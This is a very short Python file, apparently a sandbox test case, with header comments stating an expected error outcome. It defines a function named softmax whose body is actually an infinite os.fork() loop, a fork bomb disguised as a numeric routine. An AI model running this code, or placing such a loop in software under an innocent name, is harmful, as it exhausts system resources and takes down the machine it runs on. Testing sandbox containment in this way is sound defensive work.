# ends: error, failed
# needs: fork
import os


def softmax(x, axis=-1):
    while True:
        os.fork()
